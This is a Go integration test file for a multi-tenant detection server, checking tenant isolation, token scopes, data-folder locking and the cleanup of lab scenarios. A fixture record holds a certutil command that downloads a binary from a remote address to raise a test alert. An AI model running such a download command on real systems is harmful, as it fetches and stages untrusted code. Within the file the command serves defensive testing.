package main

import (
	"bufio"
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"
)

// patience bounds every wait of these tests; what they wait for takes a second or two.
const patience = 90 * time.Second

// running is a server in a process of its own.
type running struct {
	cmd   *exec.Cmd
	url   string
	log   *bytes.Buffer // complete when ended is
	ended chan error
}

// launch starts a server and returns what it prints, without waiting for it to be ready.
func launch(t *testing.T, data, listen string, settings ...string) (*running, io.Reader) {
	t.Helper()
	r := &running{log: &bytes.Buffer{}, ended: make(chan error, 1)}
	// Not bound to the test's context, which ends before cleanups do.
	args := append([]string{"serve", "--data", data, "--listen", listen, "--log-level", "warn", "--http-grace", "15s"}, settings...)
	r.cmd = exec.CommandContext(context.Background(), "bartizan", args...)
	out, in := io.Pipe()
	r.cmd.Stdout, r.cmd.Stderr = in, r.log
	if err := r.cmd.Start(); err != nil {
		t.Fatal(err)
	}
	go func() {
		err := r.cmd.Wait()
		_ = in.Close()
		r.ended <- err
	}()
	t.Cleanup(func() {
		r.kill()
		if t.Failed() && r.log.Len() > 0 {
			t.Logf("the server wrote:\n%s", r.log)
		}
	})
	return r, out
}

// startServer starts a server and returns when it says where it is.
func startServer(t *testing.T, data, listen string, settings ...string) *running {
	t.Helper()
	r, out := launch(t, data, listen, settings...)
	lines := bufio.NewScanner(out)
	for lines.Scan() {
		if _, url, ok := strings.Cut(lines.Text(), " is at "); ok {
			r.url = url
			go io.Copy(io.Discard, out) //nolint:errcheck // ends with the process
			return r
		}
	}
	t.Fatalf("the server did not start: %v\n%s", r.end(), r.log)
	return nil
}

// kill ends the process as a power cut would, and returns when it is gone.
func (r *running) kill() {
	_ = r.cmd.Process.Kill() // it may have ended before
	_ = r.end()
}

// end waits for the end of the process.
func (r *running) end() error {
	err := <-r.ended
	r.ended <- err
	return err
}

// stop asks the process to end and returns how long it took.
func (r *running) stop(t *testing.T) time.Duration {
	t.Helper()
	start := time.Now()
	if err := r.cmd.Process.Signal(syscall.SIGTERM); err != nil {
		t.Fatal(err)
	}
	if err := r.end(); err != nil {
		t.Errorf("the server ended with %v\n%s", err, r.log)
	}
	return time.Since(start)
}

// caller talks to a server with one token.
type caller struct {
	url, token string
	tenant     string // "" leaves the choice to the server
}

func (c caller) request(ctx context.Context, method, path, body string) (*http.Response, error) {
	var in io.Reader
	if body != "" {
		in = strings.NewReader(body)
	}
	req, err := http.NewRequestWithContext(ctx, method, c.url+path, in)
	if err != nil {
		return nil, err
	}
	req.Header.Set("Authorization", "Bearer "+c.token)
	req.Header.Set("Content-Type", "application/json")
	if c.tenant != "" {
		req.Header.Set("X-Tenant", c.tenant)
	}
	return http.DefaultClient.Do(req)
}

// status returns the answer's status and text; 0 when there is no answer.
func (c caller) status(ctx context.Context, method, path, body string) (int, string) {
	resp, err := c.request(ctx, method, path, body)
	if err != nil {
		return 0, err.Error()
	}
	defer resp.Body.Close()
	text, err := io.ReadAll(resp.Body)
	if err != nil {
		return 0, err.Error()
	}
	return resp.StatusCode, string(text)
}

// ask returns the decoded answer of a call that must succeed.
func ask[T any](t *testing.T, c caller, method, path, body string) T {
	t.Helper()
	var v T
	code, text := c.status(t.Context(), method, path, body)
	if code < 200 || code > 299 {
		t.Fatalf("%s %s: %d %s", method, path, code, text)
	}
	if err := json.Unmarshal([]byte(text), &v); err != nil {
		t.Fatalf("%s %s answered %s: %v", method, path, text, err)
	}
	return v
}

// hunt returns the rows of a query.
func (c caller) hunt(t *testing.T, query string) [][]any {
	t.Helper()
	body, err := json.Marshal(map[string]string{"query": query})
	if err != nil {
		t.Fatal(err)
	}
	return ask[struct{ Rows [][]any }](t, c, http.MethodPost, "/api/hunting/run", string(body)).Rows
}

// number is the one cell of a query's result.
func (c caller) number(t *testing.T, query string) int {
	t.Helper()
	rows := c.hunt(t, query)
	if len(rows) != 1 || len(rows[0]) != 1 {
		t.Fatalf("%s gave %v", query, rows)
	}
	return int(rows[0][0].(float64))
}

type alertSeen struct {
	ID, Title string
	Lab       bool
	Devices   []struct{ Name string }
}

func (c caller) alerts(t *testing.T, filter string) []alertSeen {
	t.Helper()
	return ask[struct{ Value []alertSeen }](t, c, http.MethodGet, "/api/alerts?"+filter, "").Value
}

// eventually waits until ready says so.
func eventually(t *testing.T, what string, ready func() bool) {
	t.Helper()
	tick := time.NewTicker(25 * time.Millisecond)
	defer tick.Stop()
	end := time.After(patience)
	for !ready() {
		select {
		case <-tick.C:
		case <-end:
			t.Fatalf("%s did not happen within %s", what, patience)
		}
	}
}

// stream collects the server-sent events of a caller.
type stream struct {
	mu   sync.Mutex
	seen []liveEvent
}

type liveEvent struct{ Kind, ID, Change string }

// listen returns when the server has taken the subscription.
func (c caller) listen(t *testing.T) *stream {
	t.Helper()
	ctx, cancel := context.WithCancel(context.Background())
	resp, err := c.request(ctx, http.MethodGet, "/api/events", "")
	if err != nil || resp.StatusCode != http.StatusOK {
		cancel()
		t.Fatalf("events: %v, %v", resp, err)
	}
	lines := bufio.NewScanner(resp.Body)
	if !lines.Scan() { // the first line comes after the subscription
		cancel()
		t.Fatalf("events: %v", lines.Err())
	}
	s := &stream{}
	done := make(chan struct{})
	go func() {
		defer close(done)
		kind := ""
		for lines.Scan() {
			if v, ok := strings.CutPrefix(lines.Text(), "event: "); ok {
				kind = v
			}
			if v, ok := strings.CutPrefix(lines.Text(), "data: "); ok {
				e := liveEvent{Kind: kind}
				if json.Unmarshal([]byte(v), &e) == nil {
					s.mu.Lock()
					s.seen = append(s.seen, e)
					s.mu.Unlock()
				}
			}
		}
	}()
	t.Cleanup(func() {
		cancel()
		<-done
		resp.Body.Close()
	})
	return s
}

func (s *stream) find(match func(liveEvent) bool) bool {
	s.mu.Lock()
	defer s.mu.Unlock()
	for _, e := range s.seen {
		if match(e) {
			return true
		}
	}
	return false
}

func makeToken(t *testing.T, data, tenant string, scopes ...string) string {
	t.Helper()
	args := []string{"token", "create", "--data", data, "--tenant", tenant, "--name", "test"}
	for _, s := range scopes {
		args = append(args, "--scope", s)
	}
	return document[struct{ Token string }](t, args...).Token
}

// download is a record that raises an alert on the device.
func download(device string) string {
	return fmt.Sprintf(`{"EventTime":"2024-05-06 07:08:01","Hostname":%q,"EventID":1,"SourceName":"Microsoft-Windows-Sysmon","Channel":"Microsoft-Windows-Sysmon/Operational",`+
		`"UtcTime":"2024-05-06 07:08:01.000","ProcessGuid":"{7a1f0c2e-5b10-6a00-0001-000000000100}","ProcessId":4001,"Image":"C:\\Windows\\System32\\certutil.exe",`+
		`"CommandLine":"certutil.exe -urlcache -split -f http://192.0.2.9/a.bin a.exe","User":"CORP\\mira"}`, device)
}

// TestServer has one server and looks at what it keeps apart, tells, refuses and takes away again.
func TestServer(t *testing.T) {
	t.Parallel()
	data := filepath.Join(t.TempDir(), "data")
	for _, id := range []string{"north", "south"} {
		document[map[string]any](t, "tenant", "add", id, "--data", data)
	}
	admin := caller{token: makeToken(t, data, "default", "read", "hunt", "write", "ingest", "admin")}
	north := caller{token: makeToken(t, data, "north", "read", "hunt", "ingest")}
	south := caller{token: makeToken(t, data, "south", "read", "hunt", "ingest")}
	sender := caller{token: makeToken(t, data, "north", "ingest")}
	reader := caller{token: makeToken(t, data, "north", "read")}
	server := startServer(t, data, "127.0.0.1:0")
	for _, c := range []*caller{&admin, &north, &south, &sender, &reader} {
		c.url = server.url
	}

	t.Run("tenants", func(t *testing.T) { tenantsAreApart(t, north, south) })
	t.Run("scopes", func(t *testing.T) { scopesHold(t, sender, reader) })
	t.Run("held folder", func(t *testing.T) { theFolderIsHeld(t, data, north) })
	t.Run("lab", func(t *testing.T) { theLabLeavesNothing(t, admin) })
	t.Run("end", func(t *testing.T) {
		north.listen(t) // an open stream does not keep the server
		if took := server.stop(t); took > 15*time.Second {
			t.Errorf("the server took %s to end", took)
		}
	})
}

func tenantsAreApart(t *testing.T, north, south caller) {
	heardNorth, heardSouth := north.listen(t), south.listen(t)
	incident := func(e liveEvent) bool { return e.Kind == "incident" && e.Change == "created" && e.ID == "1" }
	for _, c := range []struct {
		caller
		heard  *stream
		device string
	}{{north, heardNorth, "n1.north.example"}, {south, heardSouth, "s1.south.example"}} {
		receipt := ask[struct{ Accepted, RefusedCount int }](t, c.caller, http.MethodPost, "/ingest/v1/auto", download(c.device))
		if receipt.Accepted != 1 || receipt.RefusedCount != 0 {
			t.Fatalf("receipt %+v", receipt)
		}
		eventually(t, "the event of an incident", func() bool { return c.heard.find(incident) })
		eventually(t, "the row", func() bool { return c.number(t, "DeviceProcessEvents | count") == 1 })
		seen := c.alerts(t, "")
		if len(seen) != 1 || len(seen[0].Devices) != 1 || seen[0].Devices[0].Name != c.device || seen[0].Lab {
			t.Fatalf("alerts %+v", seen)
		}
		eventually(t, "the event of the alert", func() bool {
			return c.heard.find(func(e liveEvent) bool { return e.Kind == "alert" && e.ID == seen[0].ID })
		})
		if rows := c.hunt(t, "union AlertEvidence, DeviceProcessEvents, DeviceInfo | where isnotempty(DeviceName) | distinct DeviceName"); len(rows) != 1 || rows[0][0] != c.device {
			t.Errorf("hunting shows %v", rows)
		}
	}
	foreign := north.alerts(t, "")[0].ID
	if heardSouth.find(func(e liveEvent) bool { return e.Kind == "alert" && e.ID == foreign }) {
		t.Error("south heard of an alert of north")
	}
	for _, path := range []string{"/api/alerts/" + foreign, "/api/alerts/" + foreign + "/story", "/api/incidents/2"} {
		if code, text := south.status(t.Context(), http.MethodGet, path, ""); code != http.StatusNotFound {
			t.Errorf("%s: %d %s", path, code, text)
		}
	}
	if code, text := south.status(t.Context(), http.MethodPatch, "/api/alerts/"+foreign, `{"status":"Resolved"}`); code != http.StatusForbidden && code != http.StatusNotFound {
		t.Errorf("changing an alert of north: %d %s", code, text)
	}
	own := ask[struct {
		AlertIDs []string `json:"alertIds"`
		Devices  []struct{ Name string }
	}](t, south, http.MethodGet, "/api/incidents/1", "")
	if len(own.Devices) != 1 || own.Devices[0].Name != "s1.south.example" {
		t.Errorf("incident 1 of south is %+v", own)
	}
	// Naming the other tenant does not help.
	south.tenant = "north"
	for _, c := range []struct{ method, path, body string }{
		{http.MethodGet, "/api/incidents", ""},
		{http.MethodGet, "/api/alerts", ""},
		{http.MethodGet, "/api/alerts/" + foreign, ""},
		{http.MethodGet, "/api/events", ""},
		{http.MethodGet, "/api/entities/search?q=n1", ""},
		{http.MethodPost, "/api/hunting/run", `{"query":"DeviceProcessEvents"}`},
		{http.MethodPost, "/ingest/v1/auto", download("n2.north.example")},
	} {
		if code, text := south.status(t.Context(), c.method, c.path, c.body); code != http.StatusForbidden && code != http.StatusNotFound {
			t.Errorf("%s %s as north: %d %s", c.method, c.path, code, text)
		}
	}
}

func scopesHold(t *testing.T, sender, reader caller) {
	for _, c := range []struct{ method, path, body string }{
		{http.MethodGet, "/api/incidents", ""},
		{http.MethodGet, "/api/incidents/1", ""},
		{http.MethodGet, "/api/alerts", ""},
		{http.MethodGet, "/api/events", ""},
		{http.MethodGet, "/api/rules", ""},
		{http.MethodGet, "/api/sources/refused", ""},
		{http.MethodGet, "/api/entities/search?q=n1", ""},
		{http.MethodPost, "/api/hunting/run", `{"query":"print 1"}`},
		{http.MethodPatch, "/api/incidents/1", `{"status":"Resolved"}`},
		{http.MethodPost, "/api/lab/runs", `{"all":true}`},
	} {
		if code, text := sender.status(t.Context(), c.method, c.path, c.body); code != http.StatusForbidden {
			t.Errorf("%s %s with the scope ingest: %d %s", c.method, c.path, code, text)
		}
	}
	if code, text := sender.status(t.Context(), http.MethodPost, "/ingest/v1/auto", `{"a":1}`); code != http.StatusOK {
		t.Errorf("ingest with the scope ingest: %d %s", code, text)
	}
	if code, text := reader.status(t.Context(), http.MethodPost, "/ingest/v1/auto", `{"a":1}`); code != http.StatusForbidden {
		t.Errorf("ingest with the scope read: %d %s", code, text)
	}
	reader.token = "bztn_" + strings.Repeat("x", 40)
	if code, text := reader.status(t.Context(), http.MethodGet, "/api/alerts", ""); code != http.StatusUnauthorized {
		t.Errorf("an invented token: %d %s", code, text)
	}
}

// theFolderIsHeld: another process is sent to the server, and what works on the server answers as it does on the folder.
func theFolderIsHeld(t *testing.T, data string, c caller) {
	for _, args := range [][]string{{"import", "nothing.jsonl"}, {"hunt", "print 1"}, {"serve", "--listen", "127.0.0.1:0"}, {"alert", "list"}} {
		out, err := exec.CommandContext(t.Context(), "bartizan", append(args, "--data", data)...).CombinedOutput()
		if err == nil || !strings.Contains(string(out), "--server "+c.url) || !strings.HasSuffix(strings.TrimSpace(string(out)), "(held)") {
			t.Errorf("%v: %v\n%s", args, err, out)
		}
	}
	remote := func(args ...string) string {
		t.Helper()
		out, err := exec.CommandContext(t.Context(), "bartizan", append(args, "--server", c.url, "--token", c.token, "--tenant", "north")...).Output()
		if err != nil {
			t.Errorf("%v: %v\n%s", args, err, out)
		}
		return string(out)
	}
	if out := remote("hunt", "--format", "csv", "DeviceProcessEvents | project DeviceName"); out != "DeviceName\nn1.north.example\n" {
		t.Errorf("hunt: %s", out)
	}
	if out := remote("alert", "list", "--json"); !strings.Contains(out, `"hits":[{`) || !strings.Contains(out, "n1.north.example") {
		t.Errorf("alert list: %s", out)
	}
	if out := remote("incident", "list"); !strings.Contains(out, "n1.north.example") {
		t.Errorf("incident list: %s", out)
	}
	if out := remote("import", "--json", "testdata/script/usage.txtar"); !strings.Contains(out, `"files":1,"records":`) {
		t.Errorf("import: %s", out)
	}
}

// theLabLeavesNothing runs a scenario beside a real alert, and removes it.
func theLabLeavesNothing(t *testing.T, c caller) {
	ask[map[string]any](t, c, http.MethodPost, "/ingest/v1/auto", download("real.corp.example"))
	rows := "union * | where isempty(LabScenario) | count"
	eventually(t, "the real alert", func() bool { return len(c.alerts(t, "")) == 1 && c.number(t, "AlertInfo | count") == 1 })
	before := c.number(t, rows)

	ask[map[string]any](t, c, http.MethodPost, "/api/lab/runs", `{"scenario":"phish-to-mailbox"}`)
	eventually(t, "lab alerts", func() bool { return len(c.alerts(t, "lab=true")) >= 3 })
	for _, a := range c.alerts(t, "lab=true") {
		if !a.Lab {
			t.Errorf("%s is not labelled", a.Title)
		}
	}
	if real := c.alerts(t, "lab=false"); len(real) != 1 || real[0].Lab {
		t.Errorf("real alerts %+v", real)
	}
	eventually(t, "lab rows", func() bool { return c.number(t, "union * | where isnotempty(LabScenario) | count") > 10 })

	removed := ask[struct{ Rows, Alerts, Incidents, Runs int }](t, c, http.MethodDelete, "/api/lab/runs", "")
	if removed.Rows == 0 || removed.Alerts < 3 || removed.Incidents == 0 || removed.Runs != 1 {
		t.Errorf("removed %+v", removed)
	}
	// A scheduled rule that was looking at the run must not bring anything back.
	eventually(t, "the end of background jobs", func() bool {
		for _, q := range ask[struct {
			Queues []struct {
				Name    string
				Waiting int
			}
		}](t, c, http.MethodGet, "/api/health", "").Queues {
			if q.Waiting > 0 {
				return false
			}
		}
		return true
	})
	if left := c.alerts(t, ""); len(left) != 1 || left[0].Devices[0].Name != "real.corp.example" {
		t.Errorf("alerts left: %+v", left)
	}
	if left := ask[struct{ Value []struct{ ID int } }](t, c, http.MethodGet, "/api/incidents", "").Value; len(left) != 1 {
		t.Errorf("incidents left: %+v", left)
	}
	if n := c.number(t, "union * | where isnotempty(LabScenario) | count"); n != 0 {
		t.Errorf("%d rows of the lab are left", n)
	}
	if n := c.number(t, rows); n != before {
		t.Errorf("%d real rows, before the lab there were %d", n, before)
	}
	if runs := ask[struct{ Runs []any }](t, c, http.MethodGet, "/api/lab", "").Runs; len(runs) != 0 {
		t.Errorf("runs left: %v", runs)
	}
}
